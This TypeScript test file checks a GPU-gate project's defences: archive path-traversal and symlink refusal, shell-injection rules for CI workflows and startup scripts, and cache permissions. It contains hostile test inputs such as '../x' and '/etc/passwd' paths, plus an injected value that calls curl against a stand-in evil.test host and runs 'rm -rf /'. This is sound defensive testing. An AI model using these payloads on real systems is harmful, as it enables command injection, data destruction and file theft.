/** Files and commands: archives that lead out of their folder, paths of the local world, shells, permissions, caches. */
import { mkdtempSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { startScript } from "../../pod/start-script.generated.ts";
import { unzip } from "../../local/machine/unzip.ts";
import { zip } from "../../local/github/zip.ts";
import {
  linkProblem,
  parseManifest,
  pathProblem,
  writeManifest,
  type ManifestEntry,
} from "../../shared/hosted/archive.ts";
import { buildCreateBody } from "../../shared/runpod/create-body.ts";
import { gpuGate } from "../hosted/io.ts";
import { filesUnder, read } from "../house/source.ts";

const SHA = "0".repeat(64);
const file = (path: string): ManifestEntry => ({ kind: "file", path, executable: false, bytes: 0, sha256: SHA });
const link = (path: string, target: string): ManifestEntry => ({ kind: "link", path, target });

async function refusal(...entries: readonly ManifestEntry[]): Promise<string> {
  const text = await writeManifest({ name: "x", parts: [{ file: "x.part00", bytes: 0, sha256: SHA }], entries });
  const parsed = await parseManifest("x", text);
  return parsed.ok ? "taken" : parsed.error.problem;
}

describe("an archive", () => {
  it.each(["../x", "/etc/passwd", "a/../../x", "a/./b", "a//b", "a\\..\\b", "a\u0000b", "a\nb", "", ".", "..", "a/.."])(
    "with the path %j is refused before anything is written",
    async (path) => {
      expect(pathProblem(path)).not.toBeNull();
      expect(await refusal(file(path))).not.toMatch(/^(?:taken|the sizes)/);
    },
  );

  it.each([
    ["a", "/etc"],
    ["a", ".."],
    ["d/a", "../.."],
    ["d/a", "x/../../.."],
    ["a", "d/l/.."],
    ["a", "x/.."],
    ["a", "./x/../y"],
    ["a", ""],
    ["a", "b\u0000"],
    ["a", "..\\..\\x"],
  ])("with a link %s -> %s is refused", async (path, target) => {
    expect(linkProblem(path, target)).not.toBeNull();
    const folder: ManifestEntry[] = path.includes("/") ? [{ kind: "dir", path: "d" }] : [];
    expect(await refusal(...folder, link(path, target))).not.toMatch(/^(?:taken|the sizes)/);
  });

  it("cannot climb by two links of which each stays inside", async () => {
    // d/l is the folder itself; behind it, `..` is the folder's parent.
    const chain = [{ kind: "dir", path: "d" }, link("d/l", ".."), link("out", "d/l/../x")] as const;
    expect(await refusal(...chain)).toContain("climbs up behind a name");
    expect(linkProblem("d/l", "..")).toBeNull();
    expect(linkProblem("lib/x.so", "../lib64/x.so.1")).toBeNull();
  });

  it("has no file below a link, and nothing twice", async () => {
    expect(await refusal(link("d", "e"), file("d/x"))).toContain("is not listed before it");
    expect(await refusal(file("a"), link("a", "b"))).toContain("listed twice");
  });

  it.each(["../x.part00", "/etc/x.part00", "x.part00/../../y", "..\\x.part00", "y.part00", "x.part00\n"])(
    "is read from no part of another name than its own: %j",
    async (part) => {
      const text = await writeManifest({ name: "x", parts: [{ file: part, bytes: 0, sha256: SHA }], entries: [] });
      expect(await parseManifest("x", text)).toMatchObject({ ok: false });
    },
  );

  it("leaves no target behind when it is refused", async () => {
    const dir = mkdtempSync(join(tmpdir(), "gpu-gate-security-"));
    try {
      mkdirSync(join(dir, "parts"));
      writeFileSync(join(dir, "parts", "x.part00"), "");
      const text = await writeManifest({
        name: "x",
        parts: [{ file: "x.part00", bytes: 0, sha256: SHA }],
        entries: [link("a", "../../x")],
      });
      writeFileSync(join(dir, "parts", "x.manifest"), text);
      const answer = await gpuGate(["archive", "join", "--name", "x", "--in", "parts", "--out", "out"], { cwd: dir });
      expect([answer.code, answer.err]).toEqual([2, expect.stringContaining("'a' points outside of the folder")]);
      expect(existsSync(join(dir, "out"))).toBe(false);
    } finally {
      rmSync(dir, { recursive: true });
    }
  });

  it("as a zip in the local world: no entry leaves its folder, none becomes a prototype", () => {
    for (const path of ["../x", "/x", "a/../../x"])
      expect(() => unzip(zip({ [path]: "x" }))).toThrow(/leads out of its folder/);
    const files = unzip(zip(JSON.parse('{"__proto__":"x","a":"y"}') as Record<string, string>));
    expect(Object.keys(files).sort()).toEqual(["__proto__", "a"]);
  });
});

describe("a shell", () => {
  interface Step {
    readonly run?: string;
    readonly uses?: string;
    readonly with?: Readonly<Record<string, unknown>>;
  }
  const workflows = filesUnder("workflows").filter((name) => /\.ya?ml$/.test(name) && !/gpu-gate\.tenferro/.test(name));

  it("of a shipped workflow has no expression in its text: what others have named reaches it as a variable", () => {
    const steps = workflows.flatMap((name) => {
      const document = parse(read(name)) as { jobs?: Record<string, { steps?: Step[] }>; runs?: { steps?: Step[] } };
      const all = [
        ...Object.values(document.jobs ?? {}).flatMap((job) => job.steps ?? []),
        ...(document.runs?.steps ?? []),
      ];
      return all.map((step) => ({ name, step }));
    });
    expect(steps.length).toBeGreaterThan(50);
    const found = steps.filter(({ step }) =>
      `${step.run ?? ""}${JSON.stringify(step.with?.["script"] ?? "")}`.includes("${{"),
    );
    expect(found.map(({ name, step }) => `${name}: ${step.run?.slice(0, 60) ?? ""}`)).toEqual([]);
  });

  it("of a shipped workflow evaluates no variable as code", () => {
    const runs = workflows.flatMap((name) =>
      [...read(name).matchAll(/^.*(?:\beval\b|bash -c|sh -c|\bsource <\().*$/gm)].map(
        ([line]) => `${name}: ${line.trim()}`,
      ),
    );
    expect(runs).toEqual([]);
  });

  it("of the rented machine evaluates no variable as code, and keeps what is secret in files for itself alone", () => {
    // Once it starts itself anew, by its own text, with a clean environment.
    const others = startScript.replace('bash -c "$BASH_EXECUTION_STRING" gpu-gate-start clean', "");
    expect(others).toHaveLength(startScript.length - 'bash -c "$BASH_EXECUTION_STRING" gpu-gate-start clean'.length);
    expect(others).not.toMatch(/\beval\b|bash -c "?\$|sh -c "?\$/);
    expect(startScript).toContain("umask 077");
  });

  it("is started by no command with a line of text: programs get their arguments one by one (source)", () => {
    const files = ["cli", "shared", "worker", "durable-objects", "cron"]
      .flatMap((folder) => filesUnder(folder))
      .filter((name) => name.endsWith(".ts"));
    const found = files.filter(
      (name) => /\bexecSync\(|[^.\w]exec\(\s*[`"']|shell:\s*true/.test(read(name)) && /child_process/.test(read(name)),
    );
    expect(found).toEqual([]);
  });
});

describe("what reaches a rented machine", () => {
  it("is built from our own words: names with commands in them stay one value of one variable", () => {
    const evil = "$(curl evil.test)`id`;rm -rf /\nGPU_GATE_URL=https://evil.test";
    const body = buildCreateBody({
      name: "gpu-gate-testing-a1",
      image: `ghcr.io/actions/actions-runner@sha256:${"0".repeat(64)}`,
      gpuId: "NVIDIA L4",
      cuda: { kind: "min", version: "12.6" },
      diskGb: 20,
      entrypoint: ["/bin/bash"],
      cmd: ["-c", "true"],
      env: {
        jitConfig: "j",
        proofNonce: "p",
        exitNonce: "e",
        controlUrl: "https://gate.test",
        owner: {
          deployment: "testing",
          repositoryId: "101",
          requestId: "r1",
          attemptId: "a1",
          runId: "9",
          keep: "false",
        },
        facts: { tier: evil, workflowRef: evil },
      },
    } as unknown as Parameters<typeof buildCreateBody>[0]);
    if (!body.ok) throw new Error(body.error.reason);
    expect(body.value.args).not.toContain("evil");
    expect(body.value.env["GPU_GATE_URL"]).toBe("https://gate.test");
    expect(Object.values(body.value.env).filter((value) => value.includes("evil"))).toEqual([evil, evil]);
  });
});

describe("a cache", () => {
  it("is written by no job that runs a pull request's code (shipped workflows)", () => {
    for (const name of [
      "workflows/gpu-gate-prepare.yml",
      "workflows/gpu-gate-execute.yml",
      "workflows/gpu-gate-fallback.yml",
    ]) {
      const text = readFileSync(join(import.meta.dirname, "..", "..", name), "utf8");
      expect(text, name).not.toMatch(/uses: +actions\/cache@|uses: +actions\/cache\/save@/);
      expect(text, name).not.toMatch(/id-token: *write/);
    }
  });
});
